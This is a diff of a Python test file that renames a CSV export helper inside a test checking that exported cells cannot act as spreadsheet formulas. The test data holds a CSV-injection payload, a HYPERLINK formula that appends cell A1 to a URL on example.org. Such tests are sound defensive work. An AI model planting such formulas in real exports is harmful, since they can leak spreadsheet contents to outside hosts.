@@ -120,6 +120,6 @@ def test_the_consoles_log_names_no_erased_person(admin_user):
 def test_no_cell_of_the_csv_is_a_formula(begins):
     said = f'{begins}HYPERLINK("http://example.org?"&A1)'
     cells = {"text": said, "id": "-7", "n": -7}
-    (row,) = csv.DictReader(StringIO(registry._csv([cells]), newline=""))
+    (row,) = csv.DictReader(StringIO(registry.as_csv([cells]), newline=""))
     assert row["text"] == f"'{said}"
     assert (row["id"], row["n"]) == ("-7", "-7")
